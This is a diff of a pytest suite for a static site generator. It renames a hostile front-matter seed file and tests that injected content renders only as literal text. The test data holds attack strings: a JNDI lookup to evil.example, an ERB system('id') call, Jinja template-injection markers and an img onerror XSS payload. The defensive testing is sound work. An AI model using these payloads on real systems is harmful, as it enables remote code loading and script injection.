@@ -132,7 +132,7 @@ def test_no_page_of_the_built_site_has_injected_markup(attack_site):
     ("jinja_markers.txt", ["{{ config }}", "{{ page.meta }}", "{% include \"base.html\" %}", "{# a comment #}",
                            "${jndi:ldap://evil.example/a}", "<%= system(\"id\") %>", "{{ \"a\" * 100000 }}",
                            "{%- raw -%}", "{% macro x() %}{% endmacro %}", "%}{{."]),
-    ("front_matter.md", ["--- title: hacked author: hacked ---"]),
+    ("hostile_front_matter.md", ["--- title: hacked author: hacked ---"]),
 ])
 def test_attacks_show_as_literal_text(attack_site, seed, literals):
     project, _, _ = attack_site
@@ -141,7 +141,7 @@ def test_attacks_show_as_literal_text(attack_site, seed, literals):
         assert " ".join(literal.split()) in text, literal
 
 
-@pytest.mark.parametrize("seed", ["html_tags.txt", "markdown_syntax.txt", "jinja_markers.txt", "front_matter.md"])
+@pytest.mark.parametrize("seed", ["html_tags.txt", "markdown_syntax.txt", "jinja_markers.txt", "hostile_front_matter.md"])
 def test_seed_text_never_becomes_structure(attack_site, seed):
     article = article_of(briefing_html(attack_site[0])[seed])
     for tag in ("blockquote", "ol", "table", "pre", "code", "hr", "em", "del", "ins", "mark", "details", "h3", "h4",
@@ -170,7 +170,7 @@ def test_front_matter_stays_the_generators(attack_site):
 
 def test_hostile_front_matter_values_are_text_and_unsafe_urls_are_dropped(attack_site):
     project, _, _ = attack_site
-    soup = briefing_html(project)["front_matter.md"]
+    soup = briefing_html(project)["hostile_front_matter.md"]
     assert soup.find("h1").get_text(strip=True) == "<img src=x onerror=alert('fm-title')> Editors' title"
     assert soup.title.get_text().startswith("<img src=x onerror=alert('fm-title')> Editors' title")
     assert "javascript:" not in str(article_of(soup).find("aside") or "")
